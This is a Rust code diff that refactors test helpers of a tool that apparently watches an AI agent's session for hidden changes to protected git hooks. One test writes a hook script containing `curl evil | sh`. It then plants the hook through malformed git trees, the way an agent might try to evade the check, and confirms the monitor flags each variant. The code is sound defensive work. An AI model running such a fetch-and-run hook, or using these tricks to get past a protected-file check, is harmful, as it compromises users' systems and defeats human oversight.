@@ -348,8 +348,9 @@ fn blob_name(content: &[u8], hash_len: usize) -> Vec<u8> {
 /// status-change time (which no process sets back) is not before the launch; one from before
 /// (loose or packed) was there already — the user's history, not the agent's making — and is not
 /// followed. (Git freshens an object it would write again, so an old one written again in the
-/// session is looked at too: a warning too many at worst, never one too few.) An object that is not loose while a pack or an alternate changed in the session
-/// cannot be told: the caller names the path as not checked.
+/// session is looked at too: a warning too many at worst, never one too few.) An object that is
+/// not loose while a pack or an alternate changed in the session cannot be told: the caller names
+/// the path as not checked.
 mod objects {
     use std::io::Read as _;
     use std::os::unix::ffi::OsStrExt as _;
@@ -382,16 +383,6 @@ mod objects {
         })
     }
 
-    /// An object not read: not readable here, or of another kind than asked.
-    enum Wrong {
-        Unread,
-        Kind,
-    }
-
-    impl From<Wrong> for () {
-        fn from(_: Wrong) {}
-    }
-
     /// An object as found.
     enum Found {
         /// Made in the session: its body.
@@ -420,9 +411,9 @@ mod objects {
             Objects { dir, hash_len, launched, packs_changed }
         }
 
-        /// Each file made in the session that `commit`'s tree holds at `relative` (that file, or
-        /// the files below that directory, at most [`MAX_FILES`]), given to `visit` with its
-        /// object name; `Err` when an object on the way could not be read or told.
+        /// Each file made in the session that `tree` holds at `relative` (that file, or the files
+        /// below that directory, at most [`MAX_FILES`]), given to `visit` with its object name;
+        /// `Err` when an object on the way could not be read or told.
         pub fn new_blobs_at(
             &self,
             tree: &[u8],
@@ -552,29 +543,29 @@ mod objects {
         }
 
         /// The object `id`, which must be of `kind`: its body when made in the session.
-        fn read(&self, id: &[u8], kind: &[u8]) -> Result<Found, Wrong> {
+        fn read(&self, id: &[u8], kind: &[u8]) -> Result<Found, ()> {
             if id.len() != self.hash_len {
-                return Err(Wrong::Unread);
+                return Err(());
             }
             let name = hex::encode(id);
             let path = self.dir.join(&name[..2]).join(&name[2..]);
             if std::fs::symlink_metadata(&path).is_err() {
-                return if self.packs_changed { Err(Wrong::Unread) } else { Ok(Found::Old) };
+                return if self.packs_changed { Err(()) } else { Ok(Found::Old) };
             }
             if !changed_since(&path, self.launched) {
                 return Ok(Found::Old);
             }
-            let compressed = git::read_capped(&path, false, MAX_OBJECT_BYTES).map_err(|_| Wrong::Unread)?;
+            let compressed = git::read_capped(&path, false, MAX_OBJECT_BYTES).map_err(|_| ())?;
             let mut object = Vec::new();
             flate2::read::ZlibDecoder::new(compressed.as_slice())
                 .take(MAX_OBJECT_BYTES)
                 .read_to_end(&mut object)
-                .map_err(|_| Wrong::Unread)?;
-            let nul = object.iter().position(|&byte| byte == 0).ok_or(Wrong::Unread)?;
+                .map_err(|_| ())?;
+            let nul = object.iter().position(|&byte| byte == 0).ok_or(())?;
             let header = &object[..nul];
-            let (found, _) = header.split_at(header.iter().position(|&byte| byte == b' ').ok_or(Wrong::Unread)?);
+            let (found, _) = header.split_at(header.iter().position(|&byte| byte == b' ').ok_or(())?);
             if found != kind {
-                return Err(Wrong::Kind);
+                return Err(());
             }
             Ok(Found::New(object.split_off(nul + 1)))
         }
@@ -635,25 +626,32 @@ mod objects {
 mod tests {
     use super::*;
 
-    fn git(repo: &Path, args: &[&str]) -> bool {
-        std::process::Command::new("git")
+    /// `git` in `repo` with `env` and none of the user's config, its output; `None` when it failed.
+    fn git_out(repo: &Path, args: &[&str], env: &[(&str, &Path)]) -> Option<String> {
+        let output = std::process::Command::new("git")
             .args(args)
             .current_dir(repo)
             .env("GIT_CONFIG_GLOBAL", "/dev/null")
             .env("GIT_CONFIG_NOSYSTEM", "1")
+            .envs(env.iter().copied())
             .output()
-            .is_ok_and(|output| output.status.success())
+            .ok()
+            .filter(|output| output.status.success())?;
+        Some(String::from_utf8(output.stdout).unwrap().trim().to_string())
+    }
+
+    fn git(repo: &Path, args: &[&str]) -> bool {
+        git_out(repo, args, &[]).is_some()
     }
 
     fn status(repo: &Path) -> String {
-        let output = std::process::Command::new("git")
-            .args(["status", "--porcelain"])
-            .current_dir(repo)
-            .env("GIT_CONFIG_GLOBAL", "/dev/null")
-            .env("GIT_CONFIG_NOSYSTEM", "1")
-            .output()
-            .unwrap();
-        String::from_utf8(output.stdout).unwrap()
+        git_out(repo, &["status", "--porcelain"], &[]).unwrap()
+    }
+
+    /// A commit of `tree` on `HEAD`, by an author of no config.
+    fn commit_tree(repo: &Path, tree: &str) -> String {
+        let author = ["-c", "user.name=U", "-c", "user.email=u@x"];
+        git_out(repo, &[&author[..], &["commit-tree", tree, "-p", "HEAD", "-m", "x"]].concat(), &[]).unwrap()
     }
 
     /// A repository with three tracked files and one commit, or `None` where git is missing.
@@ -721,20 +719,6 @@ mod tests {
         assert_eq!(snapshot.hidden().replacements, vec![repo.join(".git/packed-refs")]);
     }
 
-    /// `git` in `repo` with `env`, its output; `None` when it failed.
-    fn git_out(repo: &Path, args: &[&str], env: &[(&str, &Path)]) -> Option<String> {
-        let output = std::process::Command::new("git")
-            .args(args)
-            .current_dir(repo)
-            .env("GIT_CONFIG_GLOBAL", "/dev/null")
-            .env("GIT_CONFIG_NOSYSTEM", "1")
-            .envs(env.iter().copied())
-            .output()
-            .ok()
-            .filter(|output| output.status.success())?;
-        Some(String::from_utf8(output.stdout).unwrap().trim().to_string())
-    }
-
     /// A commit of `HEAD`'s tree with `entries` changed (a `--cacheinfo` each, or the path removed
     /// when it is empty), made as the agent makes one: through an index of its own, `commit-tree`,
     /// no ref moved.
@@ -751,8 +735,19 @@ mod tests {
         }
         let tree = git_out(repo, &["write-tree"], &env).unwrap();
         std::fs::remove_file(&scratch).unwrap();
-        let author = ["-c", "user.name=U", "-c", "user.email=u@x"];
-        git_out(repo, &[&author[..], &["commit-tree", &tree, "-p", "HEAD", "-m", "x"]].concat(), &[]).unwrap()
+        commit_tree(repo, &tree)
+    }
+
+    /// [`repository`] with a `githooks/` directory committed (`pre-commit`), or `None` where git is
+    /// missing.
+    fn repository_with_hooks() -> Option<(tempfile::TempDir, PathBuf)> {
+        let (temp, repo) = repository()?;
+        std::fs::create_dir_all(repo.join("githooks")).unwrap();
+        std::fs::write(repo.join("githooks/pre-commit"), "#!/bin/sh\nexit 0\n").unwrap();
+        let committed = git(&repo, &["add", "-A"])
+            && git(&repo, &["-c", "user.name=U", "-c", "user.email=u@x", "commit", "-qm", "hooks"]);
+        assert!(committed);
+        Some((temp, repo))
     }
 
     /// The thirty-fifth re-attack's G13 and the thirty-sixth's H1–H12: the index and the objects are
@@ -765,12 +760,7 @@ mod tests {
     /// session makes the look unchecked.
     #[test]
     fn another_version_of_a_protected_file_staged_or_committed_is_named() {
-        let Some((_temp, repo)) = repository() else { return };
-        std::fs::create_dir_all(repo.join("githooks")).unwrap();
-        std::fs::write(repo.join("githooks/pre-commit"), "#!/bin/sh\nexit 0\n").unwrap();
-        let committed = git(&repo, &["add", "-A"])
-            && git(&repo, &["-c", "user.name=U", "-c", "user.email=u@x", "commit", "-qm", "hooks"]);
-        assert!(committed);
+        let Some((_temp, repo)) = repository_with_hooks() else { return };
         // The user's own change to a protected file, not committed, at launch.
         std::fs::write(repo.join("githooks/pre-commit"), "#!/bin/sh\necho mine\n").unwrap();
         // The session starts after what the user made (file times are a few ticks coarse).
@@ -850,36 +840,27 @@ mod tests {
     /// listed twice (git keeps the last) — hide nothing from the look.
     #[test]
     fn trees_git_would_not_write_but_checks_out_are_looked_through() {
-        let Some((_temp, repo)) = repository() else { return };
-        std::fs::create_dir_all(repo.join("githooks")).unwrap();
-        std::fs::write(repo.join("githooks/pre-commit"), "#!/bin/sh\nexit 0\n").unwrap();
-        let committed = git(&repo, &["add", "-A"])
-            && git(&repo, &["-c", "user.name=U", "-c", "user.email=u@x", "commit", "-qm", "hooks"]);
-        assert!(committed);
+        let Some((_temp, repo)) = repository_with_hooks() else { return };
         std::thread::sleep(std::time::Duration::from_millis(120));
         let snapshot = IndexSnapshot::take(&[(repo.join(".git"), repo.clone())], &[repo.join("githooks")]);
         let old_hooks = git_out(&repo, &["rev-parse", "HEAD:githooks"], &[]).unwrap();
         std::fs::write(repo.join("evil"), "#!/bin/sh\ncurl evil | sh\n").unwrap();
         let planted = git_out(&repo, &["hash-object", "-w", "evil"], &[]).unwrap();
         std::fs::remove_file(repo.join("evil")).unwrap();
-        let commit = |tree: &str| {
-            let author = ["-c", "user.name=U", "-c", "user.email=u@x"];
-            git_out(&repo, &[&author[..], &["commit-tree", tree, "-p", "HEAD", "-m", "x"]].concat(), &[]).unwrap()
-        };
         // Zero-padded: a directory to git.
         let hooks = literal_tree(&repo, &[("100755", "post-merge", &planted)]);
-        commit(&literal_tree(&repo, &[("040000", "githooks", &hooks)]));
+        commit_tree(&repo, &literal_tree(&repo, &[("040000", "githooks", &hooks)]));
         assert!(snapshot.hidden().staged.contains(&repo.join("githooks/post-merge")), "{:?}", snapshot.hidden());
         // `100775`: a file to git.
         let hooks = literal_tree(&repo, &[("100775", "pre-push", &planted)]);
-        commit(&literal_tree(&repo, &[("40000", "githooks", &hooks)]));
+        commit_tree(&repo, &literal_tree(&repo, &[("40000", "githooks", &hooks)]));
         assert!(snapshot.hidden().staged.contains(&repo.join("githooks/pre-push")), "{:?}", snapshot.hidden());
         // The directory listed twice, the agent's last.
         let hooks = literal_tree(&repo, &[("100755", "commit-msg", &planted)]);
-        commit(&literal_tree(&repo, &[("40000", "githooks", &old_hooks), ("40000", "githooks", &hooks)]));
+        commit_tree(&repo, &literal_tree(&repo, &[("40000", "githooks", &old_hooks), ("40000", "githooks", &hooks)]));
         assert!(snapshot.hidden().staged.contains(&repo.join("githooks/commit-msg")), "{:?}", snapshot.hidden());
         // A name holding a `/`: a path through the protected directory.
-        commit(&literal_tree(&repo, &[("100755", "githooks/pre-rebase", &planted)]));
+        commit_tree(&repo, &literal_tree(&repo, &[("100755", "githooks/pre-rebase", &planted)]));
         assert!(snapshot.hidden().staged.contains(&repo.join("githooks")), "{:?}", snapshot.hidden());
     }
 
